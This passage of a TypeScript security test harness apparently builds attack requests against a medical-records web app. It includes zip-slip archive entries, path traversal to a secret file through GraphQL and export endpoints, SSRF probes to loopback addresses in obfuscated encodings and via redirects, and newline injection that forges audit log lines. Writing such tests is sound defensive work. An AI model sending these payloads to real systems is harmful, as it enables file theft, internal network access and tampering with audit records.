    path: '/api/files/unzip',
    headers: { 'content-type': 'application/zip' },
    body: zip([{ name: climbing(path, 14), content: 'x' }]),
  }));
  made('an archive, the second entry', (path) => ({
    method: 'POST',
    path: '/api/files/unzip',
    headers: { 'content-type': 'application/zip' },
    body: zip([
      { name: 'a.txt', content: 'x' },
      { name: climbing(path, 14), content: 'x' },
    ]),
  }));
  made('a scan', (path) => file('/desk/uploads/scan', 'x.txt', 'hello', { as: climbing(path, 14) }));
  made('a patient', (path) =>
    file('/desk/uploads/field', 'x.txt', 'hello', { patient: climbing(path, 14).slice(0, -4) }),
  );
  attack('graphql, a letter', graphql('{ letter(name: "../private/secret.txt") }'), leaks);
  attack(
    'graphql, a letter by a variable',
    graphql('query ($n: String!) { letter(name: $n) }', { n: 'sub/../../private/secret.txt' }),
    leaks,
  );
  const uploadBy = (as: string | undefined, filename: string): RangeRequest => {
    const operations = JSON.stringify({
      query: 'mutation ($file: File!, $as: String) { upload(file: $file, as: $as) }',
      variables: { file: null, ...(as === undefined ? {} : { as }) },
    });
    return upload2('/desk/graphql', { operations, map: '{"0":["variables.file"]}' }, filename);
  };
  made('graphql, a name beside it', (path) => uploadBy(climbing(path, 14), 'x.txt'));
  for (const name of ['../../private/secret.txt', `${up}${secretFile}`, '../../../data/private/secret.txt'])
    attack(`an export: ${name}`, get('/board/export', { name }), leaks);
}

/** The form of GraphQL's uploads: the file is field 0. */
export function upload2(path: string, fields: Readonly<Record<string, string>>, filename: string): RangeRequest {
  const request = upload(path, filename, fields);
  return {
    ...request,
    headers: { ...request.headers, 'x-graphql-yoga-csrf': '1' },
    body: String(request.body).replace('name="file"; ', 'name="0"; '),
  };
}

function partners({ attack, places }: Shelf): void {
  const { internalPort: port, backend } = places;
  const visit = (name: string, make: (token: string) => RangeRequest): void => {
    const token = places.token();
    attack(name.replaceAll(String(port), 'PORT'), make(token), { kind: 'visited', token });
  };
  const hosts = ['127.0.0.2', 'localhost', '[::1]', '0x7f000002', '2130706434', '[::ffff:7f00:2]', '127.2'];
  for (const host of hosts) {
    for (const at of ['test', 'axios', 'undici'])
      visit(`${at}: ${host}`, (token) => post(`/api/webhooks/${at}`, { url: `http://${host}:${port}/${token}` }));
    visit(`a server: ${host}`, (token) => post('/api/fhir/pull', { server: `http://${host}:${port}/${token}` }));
    visit(`a reference: ${host}`, (token) => post('/api/fhir/reference', { reference: `//${host}:${port}/${token}` }));
    visit(`a calendar: ${host}`, (token) =>
      post('/api/calendar/subscribe', { ics: `webcal://${host}:${port}/${token}.ics` }),
    );
    visit(`a picture: ${host}`, (token) => get('/api/avatar', { host: `${host}:${port}/${token}?` }));
    visit(`a cursor: ${host}`, (token) =>
      get('/api/fhir/next', {
        cursor: Buffer.from(JSON.stringify({ link: `http://${host}:${port}/${token}` })).toString('base64'),
      }),
    );
    visit(`a queue: ${host}`, (token) => post('/desk/schedules/pull', { from: `http://${host}:${port}/${token}` }));
    visit(`the board: ${host}`, (token) => post('/board/notify', { memo: `  http://${host}:${port}/${token} ` }));
  }
  visit('a bundle', (token) =>
    post('/api/fhir/bundle', {
      entry: [{ fullUrl: `${backend}/items/1` }, { fullUrl: `http://127.0.0.2:${port}/${token}` }],
    }),
  );
  visit('a redirect', (token) =>
    post('/api/fhir/pull', { server: `${backend}/redirect?to=http://127.0.0.2:${port}/${token}&x=` }),
  );
  visit('a redirect of the calendar', (token) =>
    post('/api/calendar/subscribe', {
      ics: `${backend.replace('http', 'webcal')}/redirect?to=//localhost:${port}/${token}`,
    }),
  );
  visit('a redirect of axios', (token) =>
    get('/api/fhir/next', {
      cursor: Buffer.from(
        JSON.stringify({ link: `${backend}/redirect?to=http://127.0.0.2:${port}/${token}` }),
      ).toString('base64'),
    }),
  );
  visit('a program that fetches', (token) => post('/api/images/fetch', { from: `http://127.0.0.2:${port}/${token}` }));
}

function lines({ attack }: Shelf): void {
  const forged = (who: string): Effect => ({ kind: 'answer', holds: `"${who}`, of: get('/api/audit') });
  attack(
    'a line end',
    get('/api/audit/viewed', { who: 'bob', mrn: 'M-1\nroot released M-9' }),
    forged('root released M-9'),
  );
  attack(
    'a time',
    get('/api/audit/viewed', { who: 'bob', mrn: 'M-1\n2026-03-01T00:00:00Z root opened the safe' }),
    forged('2026-03-01T00:00:00Z root'),
  );
  attack(
    'a return and a line end',
    get('/api/audit/viewed', { who: 'bob', mrn: 'M-1\r\nroot deleted M-2' }),
    forged('root deleted M-2'),
  );
}
